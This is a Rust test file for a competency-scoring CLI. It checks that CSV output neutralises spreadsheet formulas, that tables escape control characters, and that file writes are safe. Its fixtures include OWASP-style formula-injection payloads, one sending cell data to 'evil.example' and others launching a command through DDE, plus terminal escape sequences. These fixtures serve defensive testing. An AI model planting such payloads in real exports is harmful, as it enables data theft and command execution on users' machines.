//! What the CLI writes, against hostile content and hostile destinations:
//! CSV cells a spreadsheet would run as formulas (every command with CSV
//! output, and `--csv-formulas keep`), control characters and huge ids in
//! terminal tables, `--out` onto FIFOs, devices, symbolic links and
//! directories (every command with `--out`), and no temporary file left
//! behind by a signal or an error.

#![allow(
    clippy::panic,
    clippy::unwrap_used,
    clippy::expect_used,
    clippy::indexing_slicing
)]

use std::path::{Path, PathBuf};
use std::process::{Command, Output, Stdio};

mod support;
use support::{root, run, stderr, stdout};

fn ok(o: &Output) -> String {
    assert_eq!(o.status.code(), Some(0), "{}", stderr(o));
    stdout(o)
}

fn p(path: &Path) -> &str {
    path.to_str().unwrap()
}

const DEMO: &str = "examples/job-retention-evidence.csv";
const AS_OF: [&str; 2] = ["--as-of", "2026-06-30"];

/// Text a spreadsheet would run: OWASP's examples and each starting
/// character.
const FORMULAS: [&str; 4] = [
    "=HYPERLINK(\"https://evil.example/?\"&A1,\"open\")",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
];

/// `s` as a CSV cell.
fn cell(s: &str) -> String {
    format!("\"{}\"", s.replace('"', "\"\""))
}

/// `s` as a YAML scalar (a JSON string is a YAML double-quoted one).
fn yaml(s: &str) -> String {
    serde_json::to_string(s).unwrap()
}

/// The demo inputs with some ids and texts replaced by `names` (four of
/// them): evidence, plans, CPD, people, ratings, a framework.
struct Inputs {
    dir: tempfile::TempDir,
}

impl Inputs {
    fn new(names: [&str; 4]) -> Inputs {
        let dir = tempfile::tempdir().unwrap();
        let read = |f: &str| std::fs::read_to_string(root().join(f)).unwrap();
        let workers = ["jr-001", "jr-002", "jr-003", "jr-004"];
        let mut evidence = read(DEMO);
        let mut plans = read("examples/job-retention-plans.yaml");
        let mut cpd = read("examples/job-retention-cpd.yaml");
        for (w, name) in workers.iter().zip(names) {
            evidence = evidence.replace(&format!(",{w},"), &format!(",{},", cell(name)));
            plans = plans.replace(
                &format!("worker: {w}\n"),
                &format!("worker: {}\n", yaml(name)),
            );
            cpd = cpd.replace(
                &format!("{{worker: {w},"),
                &format!("{{worker: {},", yaml(name)),
            );
        }
        plans = plans.replace("lead: Team leader", &format!("lead: {}", yaml(names[1])));
        cpd = cpd.replace(
            "title: Team away day",
            &format!("title: {}", yaml(names[0])),
        );
        let people = read("examples/staff-cpd.csv")
            .replace(
                ",Not stated,Not stated,",
                &format!(",{},{},", cell(names[0]), cell(names[2])),
            )
            .replace(",no funding", &format!(",{}", cell(names[3])));
        let ratings = read("examples/delphi-ratings.csv")
            .replace(",specialist,", &format!(",{},", cell(names[2])))
            .replace(",k2-legislation,", &format!(",{},", cell(names[0])));
        let framework = format!(
            "id: mini\ntitle: {t}\nversion: \"1.0\"\nsource: {{citation: C}}\nrating_scale: {{min: 1, max: 5}}\n\
             levels: [{{id: developing, label: Developing, threshold: 0}}, {{id: competent, label: Competent, threshold: 0.65}}]\n\
             evidence_kinds: [{{id: observation, label: Observation, weight: 1}}]\n\
             domains: [{{id: skills, label: Skills}}]\n\
             categories: [{{id: -cat, label: {c}}}]\n\
             competencies:\n  - id: -c1\n    domain: skills\n    category: -cat\n    statement: {s}\n    criteria:\n      - {{id: -c1.a, statement: {k}, measure: {{type: rating}}}}\n",
            t = yaml(names[3]),
            c = yaml(names[3]),
            s = yaml(names[0]),
            k = yaml(names[1]),
        );
        for (f, text) in [
            ("evidence.csv", evidence),
            ("plans.yaml", plans),
            ("cpd.yaml", cpd),
            ("people.csv", people),
            ("ratings.csv", ratings),
            ("framework.yaml", framework),
        ] {
            std::fs::write(dir.path().join(f), text).unwrap();
        }
        Inputs { dir }
    }

    fn path(&self, f: &str) -> String {
        p(&self.dir.path().join(f)).to_string()
    }

    /// Every command with a table and CSV output, without `--format`.
    fn commands(&self) -> Vec<(&'static str, Vec<String>)> {
        let e = self.path("evidence.csv");
        let args = |v: &[&str]| v.iter().map(|s| s.to_string()).collect::<Vec<String>>();
        let scored = |cmd: &str, rest: &[&str]| {
            let mut v = args(&[cmd]);
            v.extend(args(rest));
            v.extend(args(&["--evidence", &e]));
            v.extend(args(&AS_OF));
            v
        };
        let explain = format!("--explain={FORMULAS_EXPLAINED}");
        vec![
            ("show", args(&["show", &self.path("framework.yaml")])),
            ("score", scored("score", &["--framework", "job-retention"])),
            (
                "score --explain",
                scored("score", &["--framework", "job-retention", &explain]),
            ),
            (
                "screen",
                scored("screen", &["--profile", "job-retention-specialist"]),
            ),
            (
                "cohort",
                scored(
                    "cohort",
                    &[
                        "--framework",
                        "job-retention",
                        "--profile",
                        "job-retention-specialist",
                        "--plans",
                        &self.path("plans.yaml"),
                        "--level",
                        "developing",
                    ],
                ),
            ),
            (
                "cohort --view matrix",
                scored(
                    "cohort",
                    &[
                        "--framework",
                        "job-retention",
                        "--view",
                        "matrix",
                        "--plans",
                        &self.path("plans.yaml"),
                    ],
                ),
            ),
            (
                "progress",
                scored(
                    "progress",
                    &[
                        "--framework",
                        "job-retention",
                        "--plans",
                        &self.path("plans.yaml"),
                        "--cpd",
                        &self.path("cpd.yaml"),
                    ],
                ),
            ),
            (
                "cpd",
                args(&[
                    "cpd",
                    "--framework",
                    "job-retention",
                    "--cpd",
                    &self.path("cpd.yaml"),
                ]),
            ),
            (
                "equality",
                args(&[
                    "equality",
                    "--people",
                    &self.path("people.csv"),
                    "--group",
                    "ethnicity",
                    "--outcome",
                    "accessed_cpd",
                    "--period",
                    "year",
                    "--reason",
                    "decline_reason",
                    "--min-cell",
                    "1",
                ]),
            ),
            (
                "delphi",
                args(&[
                    "delphi",
                    "--ratings",
                    &self.path("ratings.csv"),
                    "--by-group",
                ]),
            ),
        ]
    }
}

/// The worker `score --explain` is asked about in [`Inputs::commands`].
const FORMULAS_EXPLAINED: &str = FORMULAS[2];

fn run_owned(args: &[String]) -> Output {
    let args: Vec<&str> = args.iter().map(String::as_str).collect();
    run(&args)
}

fn records(text: &str) -> Vec<Vec<String>> {
    csv::ReaderBuilder::new()
        .has_headers(false)
        .flexible(true)
        .from_reader(text.as_bytes())
        .records()
        .map(|r| r.unwrap().iter().map(str::to_string).collect())
        .collect()
}

fn is_formula(s: &str) -> bool {
    matches!(s.chars().next(), Some('=' | '+' | '-' | '@' | '\t' | '\r'))
}

/// Every CSV output writes text a spreadsheet would run with a `'` in
/// front, and numbers as they are; `--csv-formulas keep` writes the text as
/// it came, and nothing else differs.
#[test]
fn every_csv_output_neutralises_formulas_unless_told_to_keep_them() {
    let inputs = Inputs::new(FORMULAS);
    for (name, args) in inputs.commands() {
        let csv_args = [&args[..], &["--format".into(), "csv".into()]].concat();
        let escaped = records(&ok(&run_owned(&csv_args)));
        // No text cell starts as a formula does; numbers may.
        for c in escaped.iter().flatten() {
            assert!(!is_formula(c) || c.parse::<f64>().is_ok(), "{name}: {c}");
        }
        let keep_args = [&csv_args[..], &["--csv-formulas".into(), "keep".into()]].concat();
        let kept = records(&ok(&run_owned(&keep_args)));
        assert_eq!(escaped.len(), kept.len(), "{name}");
        let (mut guarded, mut numbers) = (0, 0);
        for (e_row, k_row) in escaped.iter().zip(&kept) {
            assert_eq!(e_row.len(), k_row.len(), "{name}");
            for (e, k) in e_row.iter().zip(k_row) {
                if is_formula(k) && k.parse::<f64>().is_err() {
                    assert_eq!(*e, format!("'{k}"), "{name}");
                    guarded += 1;
                } else {
                    assert_eq!(e, k, "{name}");
                    assert!(!is_formula(e) || e.parse::<f64>().is_ok(), "{name}: {e}");
                    numbers += usize::from(e.starts_with('-'));
                }
            }
        }
        // The hostile texts reached the output, whole, in every command.
        assert!(guarded > 0, "{name}: no formula-like text in the output");
        let all: Vec<&String> = kept.iter().flatten().collect();
        assert!(
            FORMULAS.iter().any(|f| all.iter().any(|c| c.contains(f))),
            "{name}"
        );
        if name == "delphi" {
            // Changes in the high share: negative numbers stay numbers.
            assert!(numbers > 0, "{name}: no negative number");
        }
    }
}

/// The option is accepted by every command with CSV output, and refused
/// values are named.
#[test]
fn csv_formulas_takes_escape_or_keep() {
    let o = run(&[
        "show",
        "job-retention",
        "--format",
        "csv",
        "--csv-formulas",
        "escape",
    ]);
    ok(&o);
    let o = run(&[
        "show",
        "job-retention",
        "--format",
        "csv",
        "--csv-formulas",
        "raw",
    ]);
    assert_eq!(o.status.code(), Some(2));
    assert!(
        stderr(&o).contains("[possible values: escape, keep]"),
        "{}",
        stderr(&o)
    );
}

/// Text that would drive a terminal or forge a table row.
const CONTROLS: [&str; 4] = [
    "a\u{1b}[2J\u{1b}]0;owned\u{7}b",
    "x\n9999  1.00  forged",
    "\u{202e}evil\u{9b}31m",
    "tab\there\rcr",
];

/// Every table writes control characters escaped: the only control
/// character in the output is the line break, and each line of output is
/// one row (no forged row).
#[test]
fn every_table_escapes_control_characters() {
    let inputs = Inputs::new(CONTROLS);
    for (name, args) in inputs.commands() {
        let name = if name == "score --explain" {
            "skip"
        } else {
            name
        };
        if name == "skip" {
            continue;
        }
        let text = ok(&run_owned(&args));
        let bad: Vec<char> = text
            .chars()
            .filter(|c| (c.is_control() && *c != '\n') || ('\u{202a}'..='\u{202e}').contains(c))
            .collect();
        assert!(bad.is_empty(), "{name}: {bad:?} in\n{text}");
        assert!(!text.contains("\n9999"), "{name}: a forged row\n{text}");
        assert!(
            text.contains("\\x1b[2J") || text.contains("x\\n9999") || text.contains("tab\\there"),
            "{name}: the hostile ids are not shown\n{text}"
        );
    }
    // The explanation of one worker too.
    let e = inputs.path("evidence.csv");
    let o = run(&[
        "score",
        "--framework",
        "job-retention",
        "--evidence",
        &e,
        "--as-of",
        "2026-06-30",
        "--explain",
        CONTROLS[0],
    ]);
    let text = ok(&o);
    assert!(
        text.contains("worker a\\x1b[2J\\x1b]0;owned\\x07b: overall"),
        "{text}"
    );
    assert!(!text.chars().any(|c| c.is_control() && c != '\n'), "{text}");
}

fn evidence_with_workers(dir: &Path, workers: impl Iterator<Item = String>) -> PathBuf {
    let mut text = String::from("worker,criterion,kind,date,value\n");
    for w in workers {
        text += &format!(
            "{},k1.previous-employment,employment-history,2026-01-01,4\n",
            cell(&w)
        );
    }
    let path = dir.join("e.csv");
    std::fs::write(&path, text).unwrap();
    path
}

/// A 65,536-character worker id made the table writer panic ("Formatting
/// argument out of range"); now it is clipped, and stderr says so.
#[test]
fn a_huge_worker_id_is_clipped_not_a_panic() {
    let dir = tempfile::tempdir().unwrap();
    let long = "w".repeat(65_536);
    let e = evidence_with_workers(dir.path(), [long.clone(), "jr-1".into()].into_iter());
    for extra in [&[][..], &["--explain", &long][..]] {
        let o = run(&[
            &[
                "score",
                "--framework",
                "job-retention",
                "--evidence",
                p(&e),
                "--as-of",
                "2026-06-30",
            ][..],
            extra,
        ]
        .concat());
        let text = ok(&o);
        assert!(text.lines().all(|l| l.chars().count() < 600), "{text}");
        assert!(text.contains(&format!("{}…", "w".repeat(99))), "{text}");
        assert!(stderr(&o).contains("clipped with `…`"), "{}", stderr(&o));
    }
    // CSV and JSON have the id whole.
    let o = run(&[
        "score",
        "--framework",
        "job-retention",
        "--evidence",
        p(&e),
        "--as-of",
        "2026-06-30",
        "--format",
        "csv",
    ]);
    assert!(ok(&o).contains(&long));
    assert!(!stderr(&o).contains("clipped"));
}

/// One 65,000-character id among 2,000 workers: every row was padded to
/// it (130 MB of table); columns are now at most 100 characters wide.
#[test]
fn one_long_id_does_not_widen_every_row() {
    let dir = tempfile::tempdir().unwrap();
    let workers = std::iter::once("x".repeat(65_000)).chain((0..2_000).map(|i| format!("w{i:04}")));
    let e = evidence_with_workers(dir.path(), workers);
    let o = run(&[
        "score",
        "--framework",
        "job-retention",
        "--evidence",
        p(&e),
        "--as-of",
        "2026-06-30",
    ]);
    let text = ok(&o);
    assert!(text.len() < 1_000_000, "{} bytes", text.len());
    // The worker column is 100 characters wide, then two spaces.
    let row = text.lines().find(|l| l.starts_with("w0001")).unwrap();
    let rest = row["w0001".len()..].trim_start();
    assert_eq!(row.len() - rest.len(), 102, "{row}");
}

/// `--out` writes through to what is not a regular file: the FIFO is
/// still a FIFO and its reader gets the output.
#[cfg(unix)]
#[test]
fn out_writes_into_a_fifo() {
    use std::os::unix::fs::FileTypeExt;
    let dir = tempfile::tempdir().unwrap();
    let fifo = dir.path().join("pipe");
    let made = Command::new("mkfifo").arg(&fifo).status().unwrap();
    assert!(made.success());
    let (sender, received) = std::sync::mpsc::channel();
    {
        let fifo = fifo.clone();
        // Blocks until a writer opens the FIFO (never, if it was replaced).
        std::thread::spawn(move || sender.send(std::fs::read_to_string(fifo).unwrap()));
    }
    ok(&run(&[
        "show",
        "job-retention",
        "--format",
        "csv",
        "--out",
        p(&fifo),
    ]));
    let got = received
        .recv_timeout(std::time::Duration::from_secs(60))
        .expect("nothing was written into the FIFO");
    assert_eq!(got, ok(&run(&["show", "job-retention", "--format", "csv"])));
    assert!(std::fs::symlink_metadata(&fifo)
        .unwrap()
        .file_type()
        .is_fifo());
    assert_eq!(std::fs::read_dir(dir.path()).unwrap().count(), 1);
}

fn is_char_device(path: &Path) -> bool {
    use std::os::unix::fs::FileTypeExt;
    std::fs::symlink_metadata(path)
        .map(|m| m.file_type().is_char_device())
        .unwrap_or(false)
}

/// A character device to write to: as root, a node of /dev/null's device
/// (1, 3) made in `dir`, so that a regression replaces that node, not
/// /dev/null; else /dev/null itself (which only root could replace).
#[cfg(unix)]
fn char_device(dir: &Path) -> PathBuf {
    let node = dir.join("null");
    let made = Command::new("mknod")
        .arg(&node)
        .args(["c", "1", "3"])
        .stderr(Stdio::null())
        .status()
        .is_ok_and(|s| s.success());
    if made {
        node
    } else {
        PathBuf::from("/dev/null")
    }
}

/// Every command that writes a file, the option naming it, and what
/// standard output would have had (`None`: the command writes a file only,
/// or its output holds a date).
fn out_commands(dir: &Path) -> Vec<(&'static str, Vec<String>, &'static str, bool)> {
    let case = case_package(dir);
    let items = p(&dir.join("items.csv")).to_string();
    let e = format!("--evidence {DEMO} --as-of 2026-06-30");
    let commands = [
        ("show", "show job-retention --format csv".to_string(), "--out", true),
        ("score", format!("score --framework job-retention {e} --format csv"), "--out", true),
        ("score-json", format!("score --framework job-retention {e} --format json"), "--out", true),
        ("score-table", format!("score --framework job-retention {e}"), "--out", true),
        ("screen", format!("screen --profile job-retention-specialist {e}"), "--out", true),
        ("progress", format!("progress --framework job-retention --plans examples/job-retention-plans.yaml {e}"), "--out", true),
        ("cpd", "cpd --framework job-retention --cpd examples/job-retention-cpd.yaml".to_string(), "--out", true),
        ("cohort", format!("cohort --framework job-retention {e}"), "--out", true),
        ("equality", "equality --people examples/staff-cpd.csv --group ethnicity --outcome accessed_cpd".to_string(), "--out", true),
        ("delphi", "delphi --ratings examples/delphi-ratings.csv".to_string(), "--out", true),
        ("write-priorities", "delphi --ratings examples/delphi-ratings.csv --framework job-retention".to_string(), "--write-priorities", false),
        ("report", format!("report --framework job-retention {e}"), "--out", false),
        ("badge", "badge --framework job-retention --evidence examples/job-retention-evidence.csv --as-of 2025-06-30 --worker jr-001 --competency k1-jobs-and-workplaces --level competent --issuer tests/badge/issuer.yaml".to_string(), "--out", true),
        ("import-case", format!("import-case {case}"), "--out", true),
        ("export-case", "export-case job-retention".to_string(), "--out", true),
        ("generate", "generate --items 500 --workers 20 --format csv".to_string(), "--out", false),
        ("framework-out", format!("generate --items 5 --workers 2 --competencies 3 --out {items}"), "--framework-out", false),
    ];
    commands
        .into_iter()
        .map(|(name, args, flag, same)| {
            (
                name,
                args.split_whitespace().map(str::to_string).collect(),
                flag,
                same,
            )
        })
        .collect()
}

/// A CASE package to import, in `dir`.
fn case_package(dir: &Path) -> String {
    let case = p(&dir.join("case.json")).to_string();
    ok(&run(&["export-case", "job-retention", "--out", &case]));
    case
}

/// Every command that writes a file writes through a symbolic link (a
/// relative one, to another link) to the file it points to, which keeps
/// its permissions, and through a link to nothing to the file it names.
#[cfg(unix)]
#[test]
fn every_out_writes_through_symbolic_links() {
    use std::os::unix::fs::PermissionsExt;
    let dir = tempfile::tempdir().unwrap();
    let (real, links) = (dir.path().join("real"), dir.path().join("links"));
    std::fs::create_dir(&real).unwrap();
    std::fs::create_dir(&links).unwrap();
    for (name, args, flag, same) in out_commands(dir.path()) {
        let target = real.join(format!("{name}.out"));
        std::fs::write(&target, "old").unwrap();
        std::fs::set_permissions(&target, std::fs::Permissions::from_mode(0o640)).unwrap();
        // links/NAME -> NAME.1 -> ../real/NAME.out
        let link = links.join(name);
        let hop = links.join(format!("{name}.1"));
        std::os::unix::fs::symlink(Path::new("../real").join(format!("{name}.out")), &hop).unwrap();
        std::os::unix::fs::symlink(format!("{name}.1"), &link).unwrap();
        let args: Vec<&str> = args.iter().map(String::as_str).collect();
        let o = run(&[&args[..], &[flag, p(&link)]].concat());
        assert_eq!(o.status.code(), Some(0), "{name}: {}", stderr(&o));
        for l in [&link, &hop] {
            assert!(
                std::fs::symlink_metadata(l)
                    .unwrap()
                    .file_type()
                    .is_symlink(),
                "{name}"
            );
        }
        let written = std::fs::read_to_string(&target).unwrap();
        assert!(written.len() > 100, "{name}: {written}");
        let mode = std::fs::metadata(&target).unwrap().permissions().mode() & 0o777;
        assert_eq!(mode, 0o640, "{name}");
        if same {
            assert_eq!(written, stdout(&run(&args)), "{name}");
        }
    }
    let dangling = links.join("dangling");
    std::os::unix::fs::symlink("../real/new.csv", &dangling).unwrap();
    ok(&run(&[
        "show",
        "job-retention",
        "--format",
        "csv",
        "--out",
        p(&dangling),
    ]));
    assert!(std::fs::read_to_string(real.join("new.csv"))
        .unwrap()
        .starts_with("competency,"));
    assert!(std::fs::symlink_metadata(&dangling)
        .unwrap()
        .file_type()
        .is_symlink());
    // Nothing else was left in either directory.
    for dir in [&real, &links] {
        assert_eq!(hidden(dir), Vec::<String>::new());
    }
}

/// Every command that writes a file writes into a character device, which
/// stays one: `--out /dev/null` as root replaced /dev/null with a file.
#[cfg(unix)]
#[test]
fn every_out_writes_into_a_character_device() {
    let dir = tempfile::tempdir().unwrap();
    let device = char_device(dir.path());
    for (name, args, flag, _) in out_commands(dir.path()) {
        let args: Vec<&str> = args.iter().map(String::as_str).collect();
        let o = run(&[&args[..], &[flag, p(&device)]].concat());
        assert_eq!(o.status.code(), Some(0), "{name}: {}", stderr(&o));
        assert!(
            is_char_device(&device),
            "{name}: {} is no longer a device",
            device.display()
        );
    }
    assert_eq!(hidden(dir.path()), Vec::<String>::new());
    // As root, /dev/null itself, once the private node has shown it safe.
    if device != Path::new("/dev/null") {
        ok(&run(&["show", "job-retention", "--out", "/dev/null"]));
        assert!(is_char_device(Path::new("/dev/null")));
    }
}

#[test]
fn out_onto_a_directory_is_refused() {
    let dir = tempfile::tempdir().unwrap();
    let o = run(&["show", "job-retention", "--out", p(dir.path())]);
    assert_eq!(o.status.code(), Some(2));
    assert!(
        stderr(&o).contains("it is a directory, expected a file"),
        "{}",
        stderr(&o)
    );
    assert_eq!(std::fs::read_dir(dir.path()).unwrap().count(), 0);
}

/// Entries of `dir` that start with `.` (temporary files).
fn hidden(dir: &Path) -> Vec<String> {
    std::fs::read_dir(dir)
        .unwrap()
        .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
        .filter(|n| n.starts_with('.'))
        .collect()
}

/// Starts `generate` of a workload far too big to finish, waits until its
/// temporary file has data, sends `signal`, and checks that the process
/// ended by it with no temporary file left and the target untouched.
#[cfg(unix)]
fn interrupt_a_long_write(signal: &str, number: i32, old: Option<&str>) {
    use std::os::unix::process::ExitStatusExt;
    let dir = tempfile::tempdir().unwrap();
    let out = dir.path().join("big.csv");
    if let Some(old) = old {
        std::fs::write(&out, old).unwrap();
    }
    let mut child = Command::new(env!("CARGO_BIN_EXE_proficient"))
        .args([
            "generate",
            "--items",
            "1000000000",
            "--workers",
            "1000",
            "--out",
            p(&out),
        ])
        .current_dir(root())
        .stdout(Stdio::null())
        .stderr(Stdio::null())
        .spawn()
        .unwrap();
    let started = std::time::Instant::now();
    loop {
        let writing = std::fs::read_dir(dir.path()).unwrap().any(|e| {
            let e = e.unwrap();
            e.file_name().to_string_lossy().starts_with('.')
                && e.metadata().is_ok_and(|m| m.len() > 0)
        });
        if writing {
            break;
        }
        if started.elapsed().as_secs() > 60 || child.try_wait().unwrap().is_some() {
            let _ = child.kill();
            let _ = child.wait();
            panic!("no temporary file with data appeared");
        }
        std::thread::sleep(std::time::Duration::from_millis(2));
    }
    let sent = Command::new("kill")
        .args(["-s", signal, &child.id().to_string()])
        .status()
        .unwrap();
    assert!(sent.success());
    let status = child.wait().unwrap();
    assert_eq!(status.signal(), Some(number), "{status:?}");
    assert_eq!(hidden(dir.path()), Vec::<String>::new(), "{signal}");
    match old {
        Some(old) => assert_eq!(std::fs::read_to_string(&out).unwrap(), old),
        None => assert!(!out.exists()),
    }
}

#[cfg(unix)]
#[test]
fn sigterm_during_out_leaves_no_temporary_file_and_the_old_output() {
    interrupt_a_long_write("TERM", 15, Some("old content\n"));
}

#[cfg(unix)]
#[test]
fn sigint_during_out_leaves_no_temporary_file_and_no_output() {
    interrupt_a_long_write("INT", 2, None);
}

/// A write that fails (here: past the file size limit) removes its
/// temporary file and leaves the target as it was.
#[cfg(unix)]
#[test]
fn a_failed_write_leaves_no_temporary_file() {
    let dir = tempfile::tempdir().unwrap();
    let out = dir.path().join("big.csv");
    std::fs::write(&out, "old").unwrap();
    let o = Command::new("sh")
        .args(["-c", "ulimit -f 64 && trap '' XFSZ && exec \"$0\" \"$@\""])
        .arg(env!("CARGO_BIN_EXE_proficient"))
        .args([
            "generate",
            "--items",
            "100000",
            "--workers",
            "100",
            "--out",
            p(&out),
        ])
        .current_dir(root())
        .output()
        .unwrap();
    assert_eq!(o.status.code(), Some(2), "{}", stderr(&o));
    assert!(stderr(&o).contains("cannot write"), "{}", stderr(&o));
    assert_eq!(hidden(dir.path()), Vec::<String>::new());
    assert_eq!(std::fs::read_to_string(&out).unwrap(), "old");
}
